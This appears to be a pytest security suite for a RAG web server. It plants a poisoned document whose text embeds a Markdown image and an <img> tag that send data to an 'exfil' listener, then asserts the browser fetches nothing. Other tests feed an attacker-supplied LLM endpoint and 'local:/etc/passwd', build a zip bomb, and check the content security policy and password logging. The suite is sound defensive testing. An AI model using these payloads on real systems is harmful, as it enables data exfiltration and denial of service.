"""Hostile web users and hostile documents against a real ``rag serve`` and a real headless Chromium.

The server answers with ``extractive`` (it quotes the sources word for word, so a hostile sentence
reaches the page exactly as written) and offers nothing else.
"""

from __future__ import annotations

import io
import urllib.request
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from gradio_client import Client

from rag import Assistant
from tests.support import ANSWER_TIMEOUT, Listener, serve_rag

SECRET_PASSWORD = "hunter2-not-in-logs"


@pytest.fixture(scope="module")
def exfil() -> Iterator[Listener]:
    """Where the hostile document's image points: it must never receive a request."""
    server = Listener()
    yield server
    server.close()


@pytest.fixture(scope="module")
def hostile_index(tmp_path_factory: pytest.TempPathFactory, exfil: Listener) -> Path:
    """A collection with a document whose answer sentence carries a Markdown image and raw HTML to a listener."""
    folder = tmp_path_factory.mktemp("hostile-docs")
    (folder / "status.md").write_text(
        "# Service status\n\n"
        "The backup server restarts every Sunday at 03:00 "
        f"![status]({exfil.url}/leak.png?d=secret) "
        f'<img src="{exfil.url}/raw.png"> and takes ten minutes.\n',
        encoding="utf-8",
    )
    index_dir = tmp_path_factory.mktemp("hostile-index")
    Assistant.open(index_dir=index_dir).add([folder])
    return index_dir


@pytest.fixture(scope="module")
def hostile_server(hostile_index: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Path]]:
    """``rag serve --llm extractive`` over :func:`hostile_index`, with small upload limits; yields (url, log)."""
    workdir = tmp_path_factory.mktemp("serve-hostile")
    flags = ["--llm", "extractive", "--max-upload-mb", "0.5", "--max-files", "2"]
    with serve_rag(hostile_index, workdir, *flags) as url:
        yield url, workdir


def _open_page(browser: Any, url: str) -> Any:
    page = browser.new_page()
    page.goto(url)
    page.locator("#question textarea").wait_for()
    return page


def test_the_page_has_a_content_security_policy(hostile_server):
    url, _ = hostile_server
    with urllib.request.urlopen(url) as response:
        policy = response.headers["Content-Security-Policy"]
    assert "default-src 'self'" in policy and "img-src 'self' data: blob:" in policy and "frame-src 'none'" in policy


def test_an_answer_quoting_a_remote_image_loads_nothing(hostile_server, browser, exfil):
    """The answer and its source show the Markdown image and the <img> tag as text; the browser fetches nothing."""
    url, _ = hostile_server
    page = _open_page(browser, url)
    page.locator("#question textarea").fill("When does the backup server restart?")
    page.locator("#question textarea").press("Enter")
    page.locator("#sources #turn-1").wait_for(timeout=ANSWER_TIMEOUT)
    chat = page.locator("#chat").inner_text()
    assert "![status](http://127.0.0.1" in chat and "<img" in chat, chat  # shown as text
    page.wait_for_timeout(1500)  # time for any fetch to arrive
    assert page.locator("#chat img[src*='127.0.0.1'], #sources img").count() == 0
    assert exfil.requests == [], "the browser fetched the attacker's URL"
    page.close()


def test_a_custom_llm_typed_into_the_page_is_refused(hostile_server, browser, listener):
    url, log = hostile_server
    page = _open_page(browser, url)
    page.get_by_text("Settings", exact=True).first.click()
    field = page.get_by_label("LLM")
    field.fill(f"openai:x@{listener.url}/v1")
    field.press("Enter")
    page.locator("#question textarea").fill("When does the backup server restart?")
    page.locator("#question textarea").press("Enter")
    page.locator("#chat .rag-error, #sources #turn-1").first.wait_for(timeout=ANSWER_TIMEOUT)
    chat = page.locator("#chat").inner_text()
    # Either the page kept an offered LLM (the answer is extractive's), or the server refused the typed one.
    assert "does not offer that LLM" in chat or "Sunday" in chat, chat
    assert listener.requests == [], "the server asked a model named by a web user"
    page.close()


def test_the_server_refuses_an_llm_it_does_not_offer(hostile_index, listener, caplog):
    """The handler itself refuses (a crafted request skips the page's list): readable message and a log line."""
    from rag.config import Settings
    from ui.handlers import chat
    from ui.policy import WebPolicy

    policy = WebPolicy.default("extractive")
    for spec in (f"openai:x@{listener.url}/v1", "local:/etc/passwd"):
        *_, (_, messages, _, _) = chat(Settings(index_dir=hostile_index), policy, "Backup?", [], [], "default", 2, spec)
        assert "does not offer that LLM" in messages[-1]["content"]
    assert "refused LLM" in caplog.text and listener.requests == []


def test_upload_limits_and_a_zip_bomb_get_clear_messages(hostile_server, hostile_index, browser, tmp_path):
    url, _ = hostile_server
    big = tmp_path / "big.txt"
    big.write_text("All work and no play. " * 30000)  # 660 kB > --max-upload-mb 0.5
    bomb = tmp_path / "bomb.docx"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("word/document.xml", b"\0" * (300 * 2**20))  # 300 MB of zeros in about 300 kB
    bomb.write_bytes(buffer.getvalue())
    uploads = hostile_index / "uploads" / "default"
    for path, message in ((big, "takes files up to"), (bomb, "zip bomb")):
        page = _open_page(browser, url)
        page.locator("#upload input[type=file]").set_input_files(str(path))
        page.get_by_text(message).first.wait_for(timeout=ANSWER_TIMEOUT)
        page.close()
    assert not (uploads / "big.txt").exists() and not (uploads / "bomb.docx").exists()
    assert Client(url, verbose=False).predict("When does the backup server restart?", api_name="/ask")  # alive


def test_ask_api_names_files_without_server_paths(hostile_server, hostile_index):
    url, _ = hostile_server
    answer = Client(url, verbose=False).predict("When does the backup server restart?", api_name="/ask")
    assert "status.md" in answer and str(hostile_index.parent) not in answer


@pytest.mark.server
def test_an_auth_file_admits_its_users_and_never_logs_passwords(hostile_index, tmp_path):
    from ui.auth import hash_line

    logins = tmp_path / "logins.txt"
    logins.write_text(f"# team\n{hash_line('ana', SECRET_PASSWORD)}\n{hash_line('bo', 'other-pass')}\n")
    with serve_rag(hostile_index, tmp_path, "--llm", "extractive", "--auth-file", str(logins)) as url:
        assert Client(url, auth=("ana", SECRET_PASSWORD), verbose=False).predict("Backup?", api_name="/ask")
        with pytest.raises(ValueError, match="Could not login"):
            Client(url, auth=("ana", "wrong-password"), verbose=False)
    log = "".join(p.read_text() for p in tmp_path.glob("serve-*.log"))
    assert "failed web login for user 'ana'" in log
    assert SECRET_PASSWORD not in log and "wrong-password" not in log
